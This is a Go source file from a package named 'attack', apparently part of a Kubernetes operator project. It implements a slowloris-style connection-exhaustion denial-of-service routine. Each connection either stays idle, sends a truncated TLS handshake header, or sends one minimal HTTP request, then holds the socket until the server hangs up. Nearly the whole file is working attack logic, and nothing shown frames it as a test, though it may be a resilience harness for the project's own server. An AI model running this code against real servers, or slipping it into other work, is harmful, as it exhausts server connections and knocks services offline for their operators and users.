// Copyright 2026 The backupjob-operator authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"time"
)

// connection opens one and does as little with it as it can: nothing, half a
// handshake, or one request, which buys the most time. It ends when the server
// hangs up, and the next one comes a second after it at the earliest: the
// attack is that there are many, not that they come fast.
func connection(ctx context.Context, t Target) error {
	next := time.After(time.Second)
	defer func() {
		select {
		case <-next:
		case <-ctx.Done():
		}
	}()
	conn, err := t.connect(ctx)
	if err != nil {
		return err
	}
	if conn, err = t.begin(ctx, conn); err == nil {
		_, _ = io.Copy(io.Discard, conn)
	}
	return nil // it was hung up on, sooner or later
}

// begin does with a connection what is done before nothing more is.
func (t Target) begin(ctx context.Context, conn net.Conn) (net.Conn, error) {
	switch rand.IntN(4) { //nolint:gosec // any order will do
	case 0:
		return conn, nil
	case 1:
		_, err := conn.Write([]byte{0x16, 3, 1, 2, 0, 1, 0}) // a handshake of 512 bytes
		return conn, err
	}
	secure, err := t.handshake(ctx, conn)
	if err != nil {
		return nil, err
	}
	_, err = io.WriteString(secure, http.MethodGet+" / HTTP/1.1\r\nHost: x\r\n\r\n")
	return secure, err
}
